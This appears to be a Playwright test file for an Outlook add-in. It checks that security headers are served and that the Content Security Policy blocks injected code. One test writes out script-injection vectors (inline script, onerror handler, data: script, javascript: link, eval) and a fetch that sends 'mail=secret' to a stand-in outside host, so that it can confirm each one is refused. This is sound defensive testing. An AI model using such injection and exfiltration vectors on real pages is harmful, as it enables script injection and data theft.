import { hostingOrigins } from '../../sandbox/office/hosting-origins';
import { headersOf } from '../../scripts/hosting/headers';
import { expect, test as base } from './support/fixtures';
import { watchViolations } from './support/violations';

const pages = ['taskpane', 'commands', 'dialog', 'redirect', 'relay', 'consent'].map(
  (name) => `${name}.html`,
);

const test = base.extend<{ violations: readonly string[] }>({
  violations: [async ({ context }, use) => use(await watchViolations(context)), { auto: true }],
});

declare global {
  interface Window {
    /** Set by a script that must never run. */
    intruder?: string;
  }
}

test('every page is served with the headers that hosts are told to send', async ({ request, sandbox }) => {
  const { origins } = sandbox;
  for (const path of [...pages, 'manifest.xml', 'assets/icon-64.png', 'nothing.html']) {
    const response = await request.get(`${origins.addIn}/${path}`);
    const sent = response.headers();
    for (const [name, value] of Object.entries(headersOf(path, hostingOrigins(origins)))) {
      expect.soft(sent[name.toLowerCase()], `${name} of ${path}`).toBe(value);
    }
    expect.soft(Object.keys(sent)).not.toContain('x-frame-options');
    expect.soft(Object.keys(sent)).not.toContain('cross-origin-opener-policy');
  }
});

test('nothing that the pane does is against its own headers', async ({ outlook, violations }) => {
  const { pane } = outlook;
  await outlook.open({ mail: 'complaint-thanks', isPaneOpen: true, isPinned: true });
  await expect(pane.getByRole('combobox', { name: 'List' })).toHaveValue('Tasks');
  await pane.getByRole('button', { name: 'More options' }).click();
  await pane.getByRole('button', { name: 'Create task' }).click();
  await expect(pane.getByText('Created just now')).toBeVisible();
  await pane.getByRole('button', { name: 'More actions' }).click();
  await outlook.page.keyboard.press('Escape');
  await outlook.openMail('train-booking');
  await expect(pane.getByRole('textbox', { name: 'Title' })).toBeVisible();
  expect(violations).toEqual([]);
});

test('the ribbon command works within its headers', async ({ outlook, violations }) => {
  await outlook.open({ mail: 'complaint-thanks' });
  await outlook.runCommand();
  await expect(outlook.notifications).toContainText('Task added to Tasks.');
  expect(violations).toEqual([]);
});

test('a page that anybody can open shows its words within its headers', async ({
  page,
  sandbox,
  violations,
}) => {
  for (const path of ['relay.html', 'consent.html?admin_consent=True']) {
    await page.goto(`${sandbox.origins.addIn}/${path}`);
    await expect(page.getByRole('heading')).toBeVisible();
  }
  expect(violations).toEqual([]);
});

test('a script that got into the pane does not run', async ({ outlook, pane, violations }) => {
  await outlook.open({ mail: 'complaint-thanks', isPaneOpen: true });
  await expect(pane.list).toHaveValue('Tasks');
  const frame = await pane.frame();
  await frame.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.intruder = "inline script"';
    document.body.append(inline);
    const handler = document.createElement('img');
    handler.setAttribute('onerror', 'window.intruder = "event handler"');
    handler.src = '/nothing.png';
    document.body.append(handler);
    const foreign = document.createElement('script');
    foreign.src = 'data:text/javascript,window.intruder = "data script"';
    document.body.append(foreign);
    const link = document.createElement('a');
    link.href = 'javascript:void(window.intruder = "link")';
    link.textContent = 'link';
    document.body.append(link);
    link.click();
    // What the test itself evaluates is exempt; what runs later is not.
    setTimeout(() => {
      try {
        window.eval('window.intruder = "eval"');
      } catch {
        // Refused, as it should be.
      }
      fetch('https://elsewhere.example/?mail=secret').catch(() => undefined);
    });
  });
  const reported = () => violations.map((line) => line.split(': ')[1]?.split(' ', 2).join(' '));
  await expect
    .poll(reported)
    .toEqual(
      expect.arrayContaining([
        'script-src-elem inline',
        'script-src-attr inline',
        'script-src-elem data',
        'script-src eval',
        'connect-src https://elsewhere.example/?mail=secret',
      ]),
    );
  expect(await frame.evaluate(() => window.intruder)).toBeUndefined();
});

test('a page of elsewhere cannot show the pane in a frame', async ({ page, sandbox, violations }) => {
  // The sign-in service stands for any site that is no Outlook.
  await page.goto(`${sandbox.origins.signIn}/nothing`);
  await page.setContent(`<iframe src="${sandbox.origins.addIn}/taskpane.html" title="stolen"></iframe>`);
  await expect.poll(() => violations.join('\n')).toContain('frame-ancestors');
});
